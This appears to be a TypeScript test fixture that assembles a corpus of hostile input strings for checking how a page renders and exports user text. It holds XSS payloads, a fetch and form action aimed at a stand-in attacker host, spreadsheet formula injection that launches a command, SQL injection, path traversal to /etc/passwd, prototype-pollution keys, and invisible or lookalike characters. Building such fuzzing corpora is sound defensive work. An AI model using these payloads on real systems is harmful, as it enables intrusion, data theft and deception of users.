/** Two hundred texts that somebody could write to make a page do, show or export something else: by families, so that none is forgotten. */

const SCRIPTS = ['window.__ran=1', 'alert(1)', 'top.__ran=1', 'fetch("https://evil.example/")'];
const MARKUP = [
  '<script>X</script>',
  '"><script>X</script>',
  '</title><script>X</script>',
  '<img src=x onerror=X>',
  '<body onload=X>',
  '<iframe srcdoc="<script>X</script>">',
  '<details open ontoggle=X>',
  '<style>*{display:none}</style>',
  '<base href=https://evil.example/>',
  '<form action=https://evil.example/><button>Approve',
];
const SVG = [
  '<svg onload=X>',
  '<svg><script>X</script></svg>',
  '<svg><animate onbegin=X attributeName=x dur=1s>',
  '<math><mtext><style><img src onerror=X></style></mtext></math>',
  '<svg><a xlink:href="javascript:X"><text>Approve</text></a></svg>',
];
const URLS = [
  'javascript:X',
  'JaVaScRiPt:X',
  'java\tscript:X',
  'data:text/html,<script>X</script>',
  '[a](javascript:X)',
];
const FORMULAS = [
  '=cmd|" /C calc"!A0',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '=HYPERLINK("https://evil.example")',
  '\t=1',
  '\r=1',
];
const HIDING = [
  ...['\u202e', '\u202d', '\u2066', '\u2067', '\u2068', '\u200e', '\u200f', '\u061c', '\u200b', '\u200c', '\u200d'],
  ...[
    '\u2060',
    '\ufeff',
    '\u00ad',
    '\u3164',
    '\u115f',
    '\u180e',
    '\ufff9',
    '\u2028',
    '\u2029',
    '\u{e0041}',
    '\u{1d173}',
  ],
];
const CONTROLS = [
  '\u0000',
  '\u0007',
  '\u0008',
  '\u000b',
  '\u001b[2J',
  '\u001b]0;x\u0007',
  '\u007f',
  '\u0085',
  '\u009b',
  '\r\n',
];
const LOOKALIKES = [
  'аpprove',
  'Ꭺpprove',
  '𝐀pprove',
  'ａpprove',
  'rеject',
  'boriѕ',
  'L٠',
  'account꞉1695',
  '20․000',
  '−5.00',
];
const NUMBERS = [
  '9007199254740991',
  '1e400',
  '-1e-400',
  'NaN',
  'Infinity',
  '0x1p-2',
  '1'.repeat(400),
  '００１',
  '1,000.00',
  '-0',
];
const PROTOTYPES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'then',
  '__defineGetter__',
];
const TEMPLATES = [
  '{{X}}',
  '${X}',
  '<%= X %>',
  '#{X}',
  '{X}',
  '%s%n',
  "'; DROP TABLE entries; --",
  '../../etc/passwd',
  '[object Object]',
];
const LONG = ['W', 'ﷺ', '<b>', 'a\u0301', '漢', '👩‍👩‍👧', '\u0e49', 'i\u0308'].flatMap((one) => [
  one.repeat(300),
  one.repeat(40),
]);

function nested(depth: number, leaf: string): string {
  return `${'{"a":['.repeat(depth)}"${leaf}"${']}'.repeat(depth)}`;
}

export const HOSTILE: readonly string[] = [
  ...[...MARKUP, ...SVG, ...URLS].flatMap((text) => SCRIPTS.map((script) => text.replace('X', script))),
  ...HIDING.map((character) => `pay ${character}evil${character} now`),
  ...CONTROLS.map((character) => `pay ${character} now`),
  ...[...FORMULAS, ...LOOKALIKES, ...NUMBERS, ...PROTOTYPES, ...TEMPLATES, ...LONG],
  ...[5, 20, 40, 60].map((depth) => nested(depth, '<script>window.__ran=1</script>')),
  ...Array.from(
    { length: 40 },
    (_, i) => `${HIDING[i % HIDING.length]}<img src=x onerror=window.__ran=${i}>${'\u0301'.repeat(i)}`,
  ),
];
